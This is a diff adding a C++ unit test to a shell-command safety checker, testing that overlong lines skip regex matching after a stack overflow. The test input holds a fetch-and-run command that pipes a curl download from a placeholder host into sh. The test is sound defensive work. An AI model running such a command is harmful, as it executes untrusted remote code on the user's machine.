@@ -47,3 +47,10 @@ TEST(ShellCommand, ArgumentsAndRedirectionsAreNotPrograms) {
     EXPECT_EQ(writable_exec_path(". \"$HOME/.cargo/env\"", false), "$HOME/.cargo/env");
     EXPECT_EQ(writable_exec_path("/tmp/a", true), "/tmp/a");  // home dots are fine, /tmp never
 }
+
+TEST(ShellCommand, MegabyteLineIsNotJudged) {
+    // std::regex recursed once per character: a 1 MB line overflowed the stack.
+    std::string line = "curl -s http://x/a | sh #" + std::string(1 << 20, 'a');
+    EXPECT_FALSE(runs_fetched_code(line));
+    EXPECT_TRUE(runs_fetched_code(line.substr(0, max_command_length)));
+}
